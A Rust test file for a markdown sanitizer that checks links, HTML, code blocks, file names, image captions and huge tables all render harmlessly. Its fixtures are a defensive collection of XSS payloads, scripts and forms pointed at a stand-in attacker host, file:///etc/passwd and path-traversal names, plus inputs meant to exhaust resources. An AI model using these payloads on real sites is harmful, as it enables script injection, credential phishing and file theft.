//! Texts that mean harm to whoever reads them, or to the host that shows them: each is shown without what it does, and none costs more
//! than its marks.

use quarry_research_markdown::readable::{code_html, plain_html, safe_html, shown_markdown, words};
use quarry_research_markdown::{Content, FileNames, export, import, picture_and_file_path};
use quarry_research_pages::blocks::BlockKind;
use quarry_text_prices::{Mark, Price};
use serde_json::json;

/// Elements of HTML that load, run, ask or cover something.
const HARMFUL: [&str; 30] = [
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
    "textarea", "select", "svg", "math", "img", "picture", "video", "audio", "source", "track", "link", "meta", "base",
    "template", "noscript", "portal", "dialog", "slot", "canvas",
];
/// Attributes that do.
const HARMFUL_ATTRIBUTES: [&str; 12] = [
    "style",
    "class",
    "src",
    "srcset",
    "srcdoc",
    "action",
    "formaction",
    "ping",
    "download",
    "target",
    "xlink:href",
    "background",
];
/// What an address may begin with.
const ADDRESSES: [&str; 4] = ["http:", "https:", "mailto:", "#section-"];

/// An element, and its attributes.
type Element = (String, Vec<(String, String)>);

/// The elements of HTML as a serializer writes it: values of attributes in quotation marks, and no `<` of a text.
fn elements(html: &str) -> Vec<Element> {
    let (mut found, mut rest) = (Vec::new(), html);
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let end = rest.find(|letter: char| letter.is_whitespace() || letter == '>').unwrap_or(rest.len());
        let name = rest[..end].trim_matches('/').to_ascii_lowercase();
        rest = &rest[end..];
        let mut attributes = Vec::new();
        loop {
            rest = rest.trim_start();
            let end = rest.find(['=', '>']).unwrap_or(rest.len());
            let attribute = rest[..end].trim().to_ascii_lowercase();
            rest = &rest[end..];
            let Some(value) = rest.strip_prefix("=\"") else {
                if !attribute.is_empty() {
                    attributes.push((attribute, String::new()));
                }
                break;
            };
            let end = value.find('"').unwrap_or(value.len());
            attributes.push((attribute, value[..end].to_owned()));
            rest = value[end..].strip_prefix('"').unwrap_or_default();
        }
        found.push((name, attributes));
    }
    found
}

/// Holds that HTML does nothing to whoever is shown it.
fn hold(loss: &str, html: &str) {
    for (name, attributes) in elements(html) {
        assert!(!HARMFUL.contains(&name.as_str()), "{loss}: an element {name} in {html}");
        for (attribute, value) in attributes {
            let is_harmful = attribute.starts_with("on") || HARMFUL_ATTRIBUTES.contains(&attribute.as_str());
            assert!(!is_harmful, "{loss}: an attribute {attribute} in {html}");
            let value = value.to_ascii_lowercase();
            let leads_out = attribute == "href" && !ADDRESSES.iter().any(|begin| value.starts_with(begin));
            assert!(!leads_out, "{loss}: an address {value} in {html}");
            assert!(attribute != "id" || value.starts_with("section-"), "{loss}: an id {value} in {html}");
        }
    }
}

/// Links, each by what whoever follows it, or looks at it, would lose.
const LINKS: &[(&str, &str)] = &[
    ("the session, by a script", "[x](javascript:alert(1))"),
    ("by a script in other letters", "[x](JaVaScRiPt:alert(1))"),
    ("by a script with an entity", "[x](&#106;avascript:alert(1))"),
    ("by a script with a line in it", "[x](java&#x0A;script:alert(1))"),
    ("by a script with a tab in it", "[x](<java\tscript:alert(1)>)"),
    ("by a script behind what nobody sees", "[x](&#1;javascript:alert(1))"),
    ("by a script behind a zero-width space", "[x](\u{200b}javascript:alert(1))"),
    ("by a script of a picture", "![x](javascript:alert(1))"),
    ("by a script between angles", "<javascript:alert(1)>"),
    ("by a script that is defined elsewhere", "[x]: javascript:alert(1)\n\n[x] [y][x] ![z][x]"),
    ("by a script of another kind", "[x](vbscript:msgbox(1))"),
    ("a page of the attacker in the place of this one", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    ("by a picture that is a page", "![](data:image/svg+xml,<svg/onload=alert(1)>)"),
    ("a file of theirs", "[x](file:///etc/passwd)"),
    ("an application that opens", "[x](intent:#Intent;end) [y](ms-msdt:/id) [z](search-ms:query=a)"),
    ("a server that they do not see", "[x](//mallory.example/a) [y](\\\\mallory.example\\a)"),
    ("by an address that ends its attribute", "[x](<https://a.example/\" onmouseover=\"alert(1)>)"),
    ("by a title that ends its attribute", "[x](https://a.example 'a\" onmouseover=\"alert(1)')"),
    (
        "by an address that becomes a link by itself",
        "https://a.example/\"onmouseover=\"alert(1) www.a.example/\"style=\"a",
    ),
    ("by a place within the page", "[x](#\" onclick=\"alert(1))"),
    ("a message that they send", "<mailto:a@b.example?body=a\"onclick=\"alert(1)>"),
];

#[test]
fn no_link_runs_sends_or_loads_anything() {
    for (loss, text) in LINKS {
        hold(loss, &safe_html(text));
        for kind in [BlockKind::Heading, BlockKind::Todo, BlockKind::Paragraph] {
            hold(loss, &safe_html(&shown_markdown(kind, text, &json!({ "level": 999, "checked": "x" }))));
        }
        hold(loss, &safe_html(&format!("| {} |\n|---|\n| {0} |", text.replace('\n', " "))));
        hold(loss, &safe_html(&format!("[^1]: {text}\n\n[^1]")));
    }
}

/// HTML, by what it would do.
const ELEMENTS: &[(&str, &str)] = &[
    ("runs", "<script>alert(1)</script>"),
    ("runs, within a line", "a <script src=//mallory.example/a.js></script> b"),
    ("runs, where it fails to load", "<img src=x onerror=alert(1)>"),
    ("runs, as a drawing", "<svg/onload=alert(1)>"),
    ("runs, as another document", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
    ("runs, by what browsers make of it", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
    (
        "runs, by a namespace",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    ("runs, behind a comment", "<!--><script>alert(1)</script>-->"),
    ("runs, by a break", "a<br onclick=alert(1)>b<BR/ onmouseover=alert(1)>c"),
    ("asks for a password", "<form action=//mallory.example><input type=password></form>"),
    ("covers the page", "<a href=\"https://a.example\" style=\"position:fixed;inset:0\">x</a>"),
    ("hides the page", "<style>body { display: none }</style>"),
    ("leads elsewhere by itself", "<meta http-equiv=refresh content=\"0;url=//mallory.example\">"),
    ("leads all links elsewhere", "<base href=//mallory.example/>"),
    ("tells who reads", "<link rel=stylesheet href=//mallory.example/a.css><img src=//mallory.example/a.png>"),
    ("has the name of something else", "<a id=root name=__proto__>x</a>"),
];

#[test]
fn no_html_in_a_text_is_html() {
    for (done, text) in ELEMENTS {
        hold(done, &safe_html(text));
        hold(done, &safe_html(&format!("> - {text}")));
        hold(done, &safe_html(&format!("*a* ![{text}](b.png) [{text}](https://c.example)")));
        for html in [code_html(text), plain_html(text)] {
            let within = html.split_once("<pre>").map_or("", |(_, within)| within);
            let within = within.strip_prefix("<code>").unwrap_or(within);
            let within = within.split("</").next().unwrap_or_default();
            assert!(!within.contains(['<', '>']), "one that {done}: {html}");
        }
        hold(done, &safe_html(&format!("```{text}\n{text}\n```")));
        // What an import makes of it stands on a page like any other text.
        for block in import(text).map(|read| read.blocks).unwrap_or_default() {
            let content = block.content;
            hold(done, &safe_html(&shown_markdown(content.kind, &content.body, &content.attrs)));
        }
    }
}

#[test]
fn no_heading_passes_for_a_part_of_the_page_around_it() {
    for text in [
        "# root",
        "# App\n\n# App",
        "# \" onclick=\"alert(1)",
        "# constructor\n\n# __proto__",
        "# a\n\n[x](#a) [y](#root)",
    ] {
        hold(text, &safe_html(text));
    }
    let shown = shown_markdown(BlockKind::Heading, "a\n\n<script>\r\n# b", &json!({ "level": -1 }));
    assert!(shown.starts_with("# a") && !shown.contains(['\n', '\r']), "a heading is one line: {shown}");
}

#[test]
fn code_ends_where_it_ends_and_is_seen_as_it_is() {
    for (what, code) in [
        ("an end of the element", "</code></pre><script>alert(1)</script>"),
        ("an entity for one", "&lt;/code&gt;&#60;script&#62;"),
        ("what a terminal obeys", "a\u{1b}[2J\u{0}\u{7}b"),
    ] {
        for html in [code_html(code), plain_html(code)] {
            let (_, within) = html.split_once("<pre>").expect("an element");
            assert!(!within.contains("<script") && !within.contains("</code></pre><"), "{what}: {html}");
            assert!(!within.contains(['\u{1b}', '\u{0}', '\u{7}']), "{what}: {html}");
        }
    }
    assert!(code_html("&lt;b&gt;").contains("&amp;lt;b&amp;gt;"), "an entity of the author's stays what it is");
    // A fence in a fence: the code of a page is one block of it, whatever stands in it.
    for code in ["```\n# not a heading\n```", "~~~\n````\n`````", "```quarry:chart\n{}\n```"] {
        let block = Content { kind: BlockKind::Code, body: code.to_owned(), attrs: json!({}) };
        let read = import(&export(&[block], &FileNames::new())).expect("a text within the price");
        let bodies: Vec<&str> = read.blocks.iter().map(|block| block.content.body.as_str()).collect();
        assert_eq!(bodies, [code]);
    }
}

#[test]
fn no_name_of_a_file_is_more_than_a_name_in_a_path() {
    for name in [
        "../../etc/passwd",
        "..\\autoexec.bat",
        "a\0.csv",
        "a\nb",
        "a\") [x](javascript:alert(1)",
        "a b.csv",
        "%2e%2e%2fb",
        "\u{202e}gpj.exe",
        "\u{ff0e}\u{ff0e}\u{ff0f}b",
    ] {
        let path = picture_and_file_path(31, Some(name));
        let within = path.strip_prefix("files/31/").unwrap_or_else(|| panic!("{path}"));
        let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.%".contains(&byte);
        assert!(within.bytes().all(is_plain), "{name:?} is {path}");
    }
}

#[test]
fn no_name_and_no_caption_of_a_picture_is_markdown_of_its_own() {
    for text in [
        "](javascript:alert(1)) [x",
        "a\\](javascript:alert(1)) [x",
        "a\" onmouseover=\"alert(1)",
        "a\") ![b](data:text/html,c",
        "<script>alert(1)</script>",
        "`a` *b* [[c]]",
    ] {
        let attrs = json!({ "upload_id": 31, "alt": text, "caption": text });
        let block = Content { kind: BlockKind::Image, body: String::new(), attrs };
        let names = FileNames::from([(31, text.to_owned())]);
        let written = export(&[block], &names);
        hold(text, &safe_html(&written));
        let read = import(&written).expect("a text within the price");
        for block in &read.blocks {
            hold(text, &safe_html(&block.content.body));
        }
        assert!(read.blocks.iter().all(|block| block.content.kind == BlockKind::Image), "{written}: {:?}", read.blocks);
    }
}

/// A table of 2,000 columns, and 250 rows of which each has one cell: half a million cells in 9,000 bytes. `end` ends a line, `space`
/// stands in the rule, and `first` is a row.
fn wide_table(end: &str, space: &str, first: &str) -> String {
    let (header, rule) = ("|a".repeat(2_000), format!("|{space}-{}", "|-".repeat(1_999)));
    format!("{header}{end}{rule}{end}{first}{end}{}", format!("x{end}").repeat(250))
}

/// Tables whose cells have to be counted, each by what could hide them.
fn tables() -> Vec<(&'static str, String)> {
    let within = |begin: &str, further: &str| -> String {
        let table = wide_table("\n", "", "\u{a0}");
        let line = |(place, line): (usize, &str)| format!("{}{line}\n", if place == 0 { begin } else { further });
        table.lines().enumerate().map(line).collect()
    };
    vec![
        ("nothing", wide_table("\n", "", "y")),
        ("lines that end as those of Windows do", wide_table("\r\n", "", "y")),
        ("lines that end as they did long ago", wide_table("\r", "", "y")),
        ("a form feed in the rule", wide_table("\n", "\u{c}", "y")),
        ("a vertical tab in the rule", wide_table("\n", "\u{b}", "y")),
        ("a row that is a space which does not break", wide_table("\n", "", "\u{a0}")),
        ("a row that is a wide space", wide_table("\n", "", "\u{3000}")),
        ("a row that is a space of no width", wide_table("\n", "", "\u{200b}")),
        ("a row that is a form feed", wide_table("\n", "", "\u{c}")),
        ("a row that is a next line", wide_table("\n", "", "\u{85}")),
        ("a row that is a separator of lines", wide_table("\n", "", "\u{2028}")),
        ("a quote around it", within("> ", "> ")),
        ("a list around it", within("- ", "  ")),
    ]
}

#[test]
fn no_table_costs_more_cells_than_are_counted() {
    for (hidden_by, text) in tables() {
        let cells = Price::of(&text).count(Mark::Cell);
        assert!(cells > 400_000, "{hidden_by}: {cells} cells are counted");
        assert_eq!(safe_html(&text), plain_html(&text), "{hidden_by}: it is shown as it stands");
    }
    // And none is counted that is not there: a blank line ends a table.
    let ended = format!("|a|b|\n|-|-|\n|1|2|\n \t\n{}", "x\n".repeat(1_000));
    assert!(Price::of(&ended).count(Mark::Cell) < 20, "{:?}", Price::of(&ended));
}

#[test]
fn no_text_is_shown_as_much_more_than_it_is() {
    let long = "y".repeat(20_000);
    for (what, text) in [
        ("quotes in each other", ">".repeat(20_000) + "x"),
        ("lists in each other", "- ".repeat(11_000) + "x"),
        ("emphasis in each other", "*_".repeat(25_000) + "x"),
        ("brackets that close nothing", "[".repeat(20_000)),
        ("brackets that close something", "[a](b".repeat(5_000)),
        ("one long address, by many references", format!("[a]: https://b.example/{long}\n\n{}", "[a] ".repeat(1_900))),
        ("definitions of each other", (0..1_500).map(|number| format!("[{number}]: {}\n", number + 1)).collect()),
        ("footnotes of each other", "[^a]: [^b]\n\n[^b]: [^a]\n\n[^a] [^b]".to_owned()),
        ("footnotes that are referred to often", "[^a]: x\n\n".to_owned() + &"[^a] ".repeat(1_900)),
        ("headings of one name", "# a\n".repeat(20_000)),
        ("entities", "&lt;".repeat(20_000)),
        ("names of entities that there are none of", "&aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa;".repeat(3_900)),
        ("code that never ends", "`".repeat(30_000) + "x"),
        ("control characters", "\u{1}".repeat(20_000)),
        ("marks of direction", "\u{202e}\u{2066}".repeat(10_000)),
        ("marks above one letter", "a".to_owned() + &"\u{301}".repeat(20_000)),
    ] {
        let html = safe_html(&text);
        assert!(html.len() <= 60 * text.len() + 500_000, "{what}: {} bytes of {}", html.len(), text.len());
        hold(what, &html);
        let words = words(&text);
        assert!(words.len() <= 2 * text.len() + 1_000, "{what}: {} bytes of words", words.len());
    }
}
